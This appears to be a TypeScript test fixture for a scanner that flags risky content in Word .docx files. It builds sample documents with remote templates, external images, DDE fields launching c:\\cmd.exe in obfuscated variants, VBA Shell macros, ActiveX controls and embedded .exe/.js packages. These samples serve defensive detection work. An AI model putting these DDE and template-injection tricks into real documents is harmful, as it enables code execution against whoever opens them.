import { DOCX, letter, old, related, sample, types } from '../office-files.ts';
import { basicProject, packagedFile } from '../old-files.ts';
import { casesOf } from './case.ts';

const template = (address: string) => () =>
  letter({ 'word/_rels/settings.xml.rels': related('attachedTemplate', address, 'External') });
const linked =
  (type: string, address: string, part = 'document.xml') =>
  () =>
    letter({ [`word/_rels/${part}.rels`]: related(type, address, 'External') });
const instruction = (text: string) => `<w:instrText>${text}</w:instrText>`;
const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`;
const field = (inner: string) => `${mark('begin')}${inner}${mark('separate')}<w:t>x</w:t>${mark('end')}`;
const withField = (inner: string) => () => letter({}, field(inner));
const control = (classId: string) => () =>
  letter({
    'word/activeX/activeX1.xml': `<ax:ocx ax:classid="{${classId}}" ax:persistence="persistStreamInit"/>`,
  });
const object = (streams: Record<string, Buffer>, classes = {}) =>
  letter({ 'word/embeddings/oleObject1.bin': old('memo.doc', streams, { classes }) });
const imported = (html: string) => () =>
  letter({ 'word/_rels/document.xml.rels': related('aFChunk', 'a.html'), 'word/a.html': html });
/** Buttons, the procedure of which is this. */
const buttons = (procedure: string) => () =>
  letter({
    'word/_rels/document.xml.rels': related(
      'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
      'buttons.xml',
    ),
    'word/buttons.xml': `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui"><ribbon><m:button id="a" getLabel="${procedure}"/></ribbon></customUI>`,
  });
const chart = (update: string) => () =>
  letter({
    'word/charts/chart1.xml': `<c:chartSpace><c:externalData r:id="rId1">${update}</c:externalData></c:chartSpace>`,
    'word/charts/_rels/chart1.xml.rels': related('oleObject', 'file:///\\\\a.example\\b.xlsx', 'External'),
  });

export const docxCases = casesOf('docx', {
  'a template on another computer => loads_outside: template': [
    template('https://a.example/t.dotm'),
    template('file:///\\\\a.example\\t.dotx'),
    template('\\\\a.example\\b\\t.dotx'),
    template('//a.example/b/t.dotx'),
    template('file://a.example/t.dotx'),
    template('file:////a.example/b/t.dotx'),
    template('file:///%5C%5Ca.example%5Ct.dotx'),
    template('h&#116;tps://a.example/t.dotx'),
    () =>
      letter({
        'word/_rels/settings.xml.rels': Buffer.from(
          `\ufeff${related('attachedTemplate', 'http://a.example/', 'External').replace('Id="rId1"', 'Id="r>1"')}`,
          'utf16le',
        ),
      }),
  ],
  'the path of the template that it was made from => taken': [
    template('Normal.dotm'),
    template('file:///C:\\Office\\Letter.dotx'),
    template('file:///C:/Office/Letter.dotx'),
    template('file:///Users/anne/Letter.dotx'),
    template('file:////Users/anne/Letter.dotx'),
    template('Macintosh%20HD:Users:anne:Letter.dotx'),
  ],
  'a link that one may follow => taken': linked('hyperlink', 'https://a.example/JavaScript'),
  'a picture on another computer => loads_outside: picture': [
    linked('image', 'http://a.example/a.png'),
    linked('image', 'file:///\\\\a.example\\a.png'),
    withField(instruction(' INCLUDEPICTURE "http://a.example/a.png" \\d')),
    () => letter({}, '<v:imagedata src="http://a.example/a.png"/>'),
    () => letter({}, '<v:fill o:href="\\\\a.example\\a.png"/>'),
  ],
  'a picture that was on this computer => taken': [
    linked('image', 'file:///D:\\logo.png'),
    withField(instruction(' INCLUDEPICTURE "cid:image001.png@01" \\* MERGEFORMATINET ')),
  ],
  'a picture that was in the memory of a browser => taken': [
    ...['blob:https://mail.example/1', 'webkit-fake-url://1/image.tiff'].flatMap((address) => [
      linked('image', address),
      withField(instruction(` INCLUDEPICTURE "${address}" \\* MERGEFORMATINET `)),
    ]),
  ],
  'a part of another letter => loads_outside: part': [
    linked('subDocument', 'http://a.example/a.docx'),
    linked('frame', '\\\\a.example\\a.docx', 'webSettings.xml'),
    linked('aFChunk', 'http://a.example/a.html'),
    withField(instruction('INCLUDETEXT "\\\\\\\\a.example\\\\b.docx"')),
  ],
  'an object on another computer => loads_outside: object': [
    linked('oleObject', 'mhtml:http://a.example/a!x-usc:b'),
    withField(instruction('LINK Excel.Sheet.12 "\\\\\\\\a.example\\\\b.xlsx" "" \\a')),
    linked('typeThatNobodyKnows', 'https://a.example/'),
  ],
  'a table of another workbook on this computer => taken': withField(
    instruction('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "" \\a'),
  ),
  'a mail merge from another computer => loads_outside: connection': [
    linked('mailMergeSource', '\\\\a.example\\a.mdb', 'settings.xml'),
    () =>
      letter({
        'word/settings.xml': '<w:connectString w:val="Provider=a;Data Source=\\\\a.example\\b.mdb;"/>',
      }),
  ],
  'a mail merge from this computer => taken': linked(
    'mailMergeSource',
    'file:///C:\\addresses.docx',
    'settings.xml',
  ),
  'figures of a chart on another computer, fetched on opening => loads_outside: object':
    chart('<c:autoUpdate val="1"/>'),
  'figures of a chart on another computer, not fetched => taken': chart('<c:autoUpdate val="0"/>'),
  'a field that starts a program => has_scripts: field': [
    withField(`${instruction('DD')}${instruction('EAUTO c:\\\\cmd.exe')}`),
    withField(instruction('<![CDATA[DDE]]> c:\\\\cmd.exe')),
    withField(instruction('DDE<!-- -->AUTO c:\\\\cmd.exe')),
    withField(`${field(instruction(' QUOTE 68 68 69 '))}${instruction(' c:\\\\cmd.exe')}`),
    withField(`${field(instruction(' REF a '))}${instruction(' c:\\\\cmd.exe')}`),
    () => letter({}, '<w:fldSimple w:instr="ddeauto a b"/>'),
    () => letter({ 'word/header1.xml': field(instruction('DDE a b')) }),
  ],
  'other fields, and the word DDE in a text => taken': withField(
    `${instruction(' IF ')}${field(instruction(' PAGE '))}${instruction(' = "1" "DDE" "" ')}`,
  ),
  'macros => has_macros: basic': [
    () => letter({ 'word/media/a.png': old('memo.doc', basicProject('Macros', 'Shell "a"')) }),
    () =>
      letter({
        '[Content_Types].xml': types([
          '/word/document.xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ]),
      }),
  ],
  'buttons with a procedure of a file on another computer => has_macros: basic': buttons(
    "'\\\\a.example\\b.dotm'!Start",
  ),
  'buttons without their procedures => taken': buttons('Start'),
  'a control of Office’s own forms => taken': control('8BD21D40-EC42-11CE-9E0D-00AA006002F3'),
  'a control of another program => has_macros: controls': control('D27CDB6E-AE6D-11CF-96B8-444553540000'),
  'the figures of a chart => taken': () => letter({ 'word/embeddings/sheet1.xlsx': sample('book.xlsx') }),
  'an object that is an old letter => taken': () => object({}),
  'an object with a document inside => taken': () =>
    object({ '/a/\u0001Ole10Native': packagedFile('a.xlsx', sample('book.xlsx')) }),
  'an object with a program inside => has_files: a.exe': () =>
    object({ '/a/\u0001Ole10Native': packagedFile('a.exe', Buffer.from('MZ')) }),
  'an object with a program inside => has_files: a.js': () =>
    object({ '/a/\u0001Ole10Native': packagedFile('a.js', Buffer.from('1')) }),
  'an object that shows a web page => has_macros: controls': () =>
    object({ '/a/b': Buffer.alloc(9) }, { a: '8856f961-340a-11d0-a96b-00c04fd705a2' }),
  'an object that is kept on another computer => loads_outside: object': () =>
    object({
      '/a/\u0001Ole': Buffer.concat([Buffer.alloc(24), Buffer.from('http://a.example/a.hta\0', 'utf16le')]),
    }),
  'another archive inside => has_files: a.zip': async () =>
    letter({ 'word/media/a.zip': renamedTypes(await letter()) }),
  'a web page that Word takes into the letter => taken': imported(
    '<html><p style="a">Text</p><img src="cid:1"></html>',
  ),
  'a web page with a picture on another computer => loads_outside: part': [
    imported('<html><img src="http://a.example/a.png"></html>'),
    () =>
      letter({
        'word/_rels/document.xml.rels': related('aFChunk', 'a%20b.html'),
        'word/a%20b.html': '<html><img src="http://a.example/a.png"></html>',
      }),
  ],
  'a web page that runs something => loads_outside: part': imported('<html><iframe></iframe></html>'),
  'a pane of an add-in that is closed => taken': () =>
    letter({
      'word/webextensions/taskpanes.xml':
        '<wetp:taskpanes><wetp:taskpane visibility="0"><wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>',
    }),
  'parts of the names that a letter has => taken': () =>
    letter({
      '[Content_Types].xml': types(
        ['/word/document.xml', DOCX],
        ['/word/a.bin', 'application/vnd.ms-office.vbaProject'],
      ),
    }),
});

/** A zip of which no part tells the types of the others. */
function renamedTypes(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes);
  for (let at = copy.indexOf('[Content_Types]'); at >= 0; at = copy.indexOf('[Content_Types]', at + 1))
    copy.write('(', at);
  return copy;
}
